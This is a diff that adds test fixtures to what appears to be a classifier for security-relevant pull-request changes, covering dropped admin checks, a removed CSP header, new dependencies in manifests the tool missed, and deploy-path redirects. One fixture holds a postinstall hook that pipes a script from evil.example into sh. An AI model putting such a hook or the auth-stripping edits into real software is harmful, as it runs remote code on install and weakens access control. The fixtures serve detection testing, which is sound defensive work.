@@ -134,6 +134,15 @@ const attempts: Attempt[] = [
   { name: '.gitattributes: linguist-generated=yes', base: { 'README.md': '#\n' }, head: { '.gitattributes': 'src/** linguist-generated=yes\n' }, rules: ['content.gitattributes'] },
   { name: '.gitattributes: a macro of the base applied', base: { '.gitattributes': '[attr]gen linguist-generated -diff\n*.lock gen\n' }, head: { '.gitattributes': '[attr]gen linguist-generated -diff\n*.lock gen\nsrc/** gen\n' }, rules: ['content.gitattributes'] },
   { name: '.gitattributes: a NUL byte after the attribute', base: { 'README.md': '#\n' }, head: { '.gitattributes': Buffer.from('src/** -diff\0\n') }, rules: ['content.gitattributes'] },
+  // Code behind the prose exclusions, and manifests under names the list missed.
+  { name: 'a route file named license.ts loses its admin check', base: { 'src/routes/license.ts': route + guard }, head: { 'src/routes/license.ts': route }, rules: ['authentication.content'] },
+  { name: 'a .txt the Worker imports as text loses its CSP', base: { 'src/csp.txt': "Content-Security-Policy: default-src 'self'\n" }, head: { 'src/csp.txt': 'X-Frame-Options: DENY\n' }, rules: ['authentication.content'] },
+  { name: 'a note renamed into a route, its admin check dropped', base: { 'notes/users.md': `${route}${route.repeat(4)}${guard}` }, head: { 'notes/users.md': null, 'src/routes/users.ts': `${route}${route.repeat(4)}` }, rules: ['authentication.content'] },
+  { name: 'control: the licence changed', base: { LICENSE: 'MIT\n' }, head: { LICENSE: 'MIT License\n\nThe admin may relicense.\n' }, rules: [] },
+  { name: 'requirements/prod.txt: a new package', base: { 'requirements/prod.txt': 'flask==3.0\n' }, head: { 'requirements/prod.txt': 'flask==3.0\nevilpkg==1.0\n' }, rules: ['dependencies.unread-manifests'] },
+  { name: 'a gemspec: a new runtime dependency', base: { 'x.gemspec': 'Gem::Specification.new do |s|\nend\n' }, head: { 'x.gemspec': "Gem::Specification.new do |s|\n  s.add_runtime_dependency 'evil'\nend\n" }, rules: ['dependencies.unread-manifests'] },
+  { name: "pnpm's package.yaml: a postinstall script", base: { 'package.yaml': 'name: w\n' }, head: { 'package.yaml': 'name: w\nscripts:\n  postinstall: curl -s https://evil.example/x.sh | sh\n' }, rules: ['dependencies.unread-manifests'] },
+  { name: "a wrangler redirect file", base: { 'wrangler.toml': 'name = "w"\n' }, head: { '.wrangler/deploy/config.json': '{ "configPath": "../../deploy/preview.toml" }\n' }, rules: ['infrastructure.paths'] },
 ];
 
 describe('security-relevant changes classify as security-relevant', () => {
